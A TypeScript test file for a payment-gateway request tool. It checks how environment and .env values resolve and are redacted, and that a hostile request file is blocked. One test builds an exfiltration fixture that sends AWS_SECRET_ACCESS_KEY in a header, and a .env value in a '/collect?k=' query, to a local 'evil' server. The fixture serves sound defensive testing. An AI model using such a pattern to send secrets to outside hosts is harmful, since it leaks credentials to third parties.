// `{{$processEnv NAME}}` and `{{$dotenv NAME}}` (issue 35, item 14), against a real Local sandbox
// and real files: where values come from and in which order, a clear error for one that is not
// set, every value hidden in the run's report, and a hostile request file that tries to send
// one to a host of its own — refused, and that host hears nothing.
import { after, before, beforeEach, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { GatewayClient } from '../../src/core/http/client';
import { parseRequestFile } from '../../src/core/requestFile';
import { OutsideValues, runAll, sendOutcomeOf, type RunOptions } from '../../src/core/runner';
import { dotenvPlaces, readDotenvFile } from '../../src/core/runner/dotenvFile';
import { runFiles } from '../../src/cli/run/runFiles';
import type { RunTarget } from '../../src/cli/run/runTarget';
import { startSandbox, type RunningSandbox } from '../../src/sandbox/server';
import { LANGUAGES, generateFromText } from '../../src/core/codegen/programs';

const SECRET = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY';

describe('values from the environment and .env files', () => {
  let sandbox: RunningSandbox;
  let client: GatewayClient;
  let evil: Server;
  let evilHeard: string[];
  let evilUrl: string;
  let dir: string;

  before(async () => {
    sandbox = await startSandbox({ port: 0, rate: 10_000 });
    client = new GatewayClient({
      environment: { name: 'Local sandbox', kind: 'local', gatewayUrl: sandbox.gatewayUrl, boardingUrl: sandbox.boardingUrl },
      credentials: { apiKey: sandbox.apiKey, accessKey: sandbox.accessKey, merchantId: sandbox.merchantId },
    });
    evilHeard = [];
    evil = createServer((req, res) => {
      evilHeard.push(`${req.method} ${req.url} ${JSON.stringify(req.headers)}`);
      res.end('{}');
    });
    await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
    evilUrl = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
    dir = mkdtempSync(path.join(tmpdir(), 'gw-outside-'));
    mkdirSync(path.join(dir, 'requests'));
    // Beside the request file: INVOICE and SHARED; at the root: SHARED (shadowed) and ROOT_ONLY.
    writeFileSync(path.join(dir, 'requests', '.env'), `INVOICE=INV-dotenv-4417\nSHARED=from-beside\nexport QUOTED="two words" # a comment\n`);
    writeFileSync(path.join(dir, '.env'), 'SHARED=from-root\nROOT_ONLY=root-value-91\n');
  });
  after(async () => {
    await client.close();
    await sandbox.close();
    await new Promise((resolve) => evil.close(resolve));
    rmSync(dir, { recursive: true, force: true });
  });
  beforeEach(() => {
    sandbox.control.reset();
    evilHeard.length = 0;
    sentHeaders.length = 0;
  });

  function outside(env: Record<string, string> = {}, told: string[] = []): OutsideValues {
    return new OutsideValues({
      processEnv: (name) => env[name],
      processEnvPlace: 'the test',
      dotenvFiles: dotenvPlaces(path.join(dir, 'requests'), dir).map(readDotenvFile),
      onValue: (value) => told.push(value),
    });
  }

  /** The headers of each request sent, as the run engine handed them to the client. */
  const sentHeaders: Array<Record<string, string>> = [];

  function options(text: string, values?: OutsideValues): RunOptions {
    return {
      file: parseRequestFile(text),
      environment: { name: 'Local sandbox', gatewayUrl: sandbox.gatewayUrl, boardingUrl: sandbox.boardingUrl, merchantId: sandbox.merchantId },
      namedResponses: new Map(),
      send: (p) => (sentHeaders.push(p.headers), sendOutcomeOf(client.sendRaw({ method: p.method, url: p.url.toString(), headers: p.headers, ...(p.body !== undefined ? { body: p.body } : {}) }))),
      ...(values ? { outside: values } : {}),
    };
  }

  const sale = (invoice: string, expect: string[] = []) => [
    '### sale', '# @expect status 200', ...expect, 'POST {{gatewayUrl}}/rest/v2/transactions/sale', 'Content-Type: application/json', 'X-Trace: {{$processEnv TRACE_TOKEN}}', '',
    `{"type": "SALE", "amount": "3.00", "card": "4111111111111111", "exp-date": "1230", "invoice": "${invoice}"}`, '',
  ].join('\n');

  it('reads the .env beside the file first, then the root\'s; $processEnv from the process; %name through a file variable', async () => {
    const told: string[] = [];
    const text = [
      '@which = TRACE_TOKEN',
      sale('{{$dotenv INVOICE}}', [
        '# @expect payload.transaction.invoice == INV-dotenv-4417',
      ]).replace('X-Trace: {{$processEnv TRACE_TOKEN}}', 'X-Trace: {{$processEnv %which}}\nX-Shared: {{$dotenv SHARED}}\nX-Root: {{$dotenv ROOT_ONLY}}\nX-Quoted: {{$dotenv QUOTED}}'),
    ].join('\n');
    const [outcome] = await runAll(options(text, outside({ TRACE_TOKEN: 'trace-1234' }, told)));
    assert.equal(outcome.state, 'passed', outcome.message);
    assert.deepEqual(sentHeaders.at(-1), { 'Content-Type': 'application/json', 'X-Trace': 'trace-1234', 'X-Shared': 'from-beside', 'X-Root': 'root-value-91', 'X-Quoted': 'two words' });
    assert.deepEqual(told.sort(), ['INV-dotenv-4417', 'from-beside', 'root-value-91', 'trace-1234', 'two words'].sort(), 'each value handed out is told, to be hidden');
  });

  it('a variable that is not set is a clear error, and nothing is sent', async () => {
    const missingEnv = await runAll(options(sale('INV-1'), outside({})));
    assert.equal(missingEnv[0].state, 'error');
    assert.equal(missingEnv[0].message, 'not sent: {{$processEnv TRACE_TOKEN}}: TRACE_TOKEN is not set in the environment of the test: set it there (or use {{$dotenv TRACE_TOKEN}} and a .env file)');
    const missingDotenv = await runAll(options(sale('{{$dotenv NOPE}}'), outside({ TRACE_TOKEN: 'trace-1234' })));
    assert.equal(missingDotenv[0].message, `not sent: {{$dotenv NOPE}}: no NOPE in ${path.join(dir, 'requests', '.env')}, then ${path.join(dir, '.env')}: add the line NOPE=value to ${path.join(dir, 'requests', '.env')}`);
    const indirect = await runAll(options(sale('INV-1').replace('$processEnv TRACE_TOKEN', '$processEnv %nowhere'), outside({})));
    assert.match(indirect[0].message ?? '', /%nowhere takes the name from the file variable "nowhere", and this file has none/);
    const written = await runAll(options(sale('INV-1').replace('$processEnv TRACE_TOKEN', '$processEnv'), outside({})));
    assert.match(written[0].message ?? '', /write one name after \$processEnv/);
    // A run given no sources (a request sent from memory) says why rather than "has no value".
    const unread = await runAll(options(sale('INV-1')));
    assert.match(unread[0].message ?? '', /is read only when a saved request file is sent or run/);
    assert.equal(sandbox.control.stats().requests, 0);
  });

  it('a hostile request file cannot send a value to a host of its own: refused before sending, and that host hears nothing', async () => {
    const steal = [
      '### looks harmless', `POST ${evilUrl}/rest/v2/transactions/sale`, 'Content-Type: application/json', 'X-Steal: {{$processEnv AWS_SECRET_ACCESS_KEY}}', '', '{"amount": "1.00"}', '',
      '### through a file variable, in the query', '@stolen = {{$dotenv INVOICE}}', `GET ${evilUrl}/collect?k={{stolen}}`, '',
    ].join('\n');
    const outcomes = await runAll(options(steal, outside({ AWS_SECRET_ACCESS_KEY: SECRET })));
    assert.deepEqual(outcomes.map((o) => o.state), ['error', 'error']);
    for (const o of outcomes) {
      assert.match(o.message ?? '', new RegExp(`^not sent: refused: it carries a \\{\\{\\$processEnv …\\}\\} or \\{\\{\\$dotenv …\\}\\} value, and those go only to environment "Local sandbox"'s own origins \\(${sandbox.gatewayUrl.replace(/\/rest.*$|\/$/, '').replace(/[.]/g, '\\.')}.*\\), as its keys do; this request goes to ${evilUrl.replace(/[.]/g, '\\.')}`));
      assert.ok(!(o.message ?? '').includes(SECRET));
    }
    assert.deepEqual(evilHeard, [], 'the foreign host heard nothing');
  });

  it('the CLI reads the .env beside the file, then the current directory\'s, and its reports hide every value', async () => {
    const file = path.join(dir, 'requests', 'cli.gwreq');
    writeFileSync(file, sale('{{$dotenv INVOICE}}', ['# @expect payload.transaction.invoice == {{$dotenv ROOT_ONLY}}']));
    const target: RunTarget = {
      environment: { name: 'Local sandbox', kind: 'local', gatewayUrl: sandbox.gatewayUrl, boardingUrl: sandbox.boardingUrl },
      credentials: { apiKey: sandbox.apiKey },
      readOnly: false,
      close: async () => undefined,
    };
    const report = await runFiles([{ path: file }], target, { outsideFrom: { env: { TRACE_TOKEN: SECRET }, cwd: dir } });
    const text = JSON.stringify(report);
    const [request] = report.files[0].requests;
    assert.equal(request.state, 'failed', 'the invoice is the .env\'s, not the root\'s: the expectation compares the two');
    assert.equal(sandbox.control.stats().byOperation['transactions.sale'], 1);
    for (const value of ['INV-dotenv-4417', 'root-value-91', SECRET]) assert.ok(!text.includes(value), `${value} is hidden: ${text}`);
    assert.match(text, /\[REDACTED\]/);
  });

  it('generated code never holds a value: each becomes a parameter the program is given', () => {
    process.env.GW_CODEGEN_SECRET = SECRET;
    try {
      const text = ['POST {{gatewayUrl}}/rest/v2/transactions/sale', 'Content-Type: application/json', 'X-Token: {{$processEnv GW_CODEGEN_SECRET}}', '',
        '{"type": "SALE", "amount": "1.00", "card": "4111111111111111", "exp-date": "1230", "invoice": "{{$dotenv INVOICE}}"}'].join('\n');
      for (const language of LANGUAGES) {
        const { code } = generateFromText(language, text);
        assert.ok(!code.includes(SECRET) && !code.includes('INV-dotenv-4417'), language.id);
        assert.match(code, /\{\{\$processEnv GW_CODEGEN_SECRET\}\}: the file gives it no value/, language.id);
      }
    } finally {
      delete process.env.GW_CODEGEN_SECRET;
    }
  });
});
